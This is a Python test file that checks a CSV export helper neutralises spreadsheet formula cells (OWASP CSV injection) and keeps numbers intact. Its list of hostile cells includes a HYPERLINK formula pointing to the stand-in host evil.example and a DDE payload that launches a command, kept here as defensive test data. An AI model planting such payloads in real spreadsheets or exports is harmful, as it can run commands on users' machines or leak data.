"""No CSV we write holds a cell a spreadsheet would run (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from metrics.csv_safety import FORMULA_STARTS, neutralise_cell, neutralise_frame, safe_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x","England")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "=1+2",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_cell_is_written_as_text(hostile):
    assert neutralise_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("number", ["-1.5", "+3", "-0", "-2e3", "12"])
def test_numbers_stay_numbers(number):
    assert neutralise_cell(number) == number


def test_values_of_other_types_are_untouched():
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(None) is None


def test_a_frame_keeps_numeric_columns_and_neutralises_text_and_names():
    frame = pl.DataFrame({"area": ["England", "=1+2"], "value": [-1.5, 2.0], "=HYPERLINK(x)": ["a", "@b"]})
    safe = neutralise_frame(frame)
    assert safe.columns == ["area", "value", "'=HYPERLINK(x)"]
    assert safe["area"].to_list() == ["England", "'=1+2"]
    assert safe["value"].to_list() == [-1.5, 2.0]
    assert safe["'=HYPERLINK(x)"].to_list() == ["a", "'@b"]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=20))
def test_no_cell_of_a_safe_csv_runs_as_a_formula(texts):
    frame = pl.DataFrame({"text": texts, "count": list(range(len(texts)))})
    cells = _cells(safe_csv(frame))
    assert not [cell for cell in cells if _runs_as_formula(cell)]


@given(st.text(max_size=30))
def test_neutralising_is_the_same_for_a_cell_and_a_column(text):
    assert neutralise_frame(pl.DataFrame({"t": [text]}))["t"][0] == neutralise_cell(text)
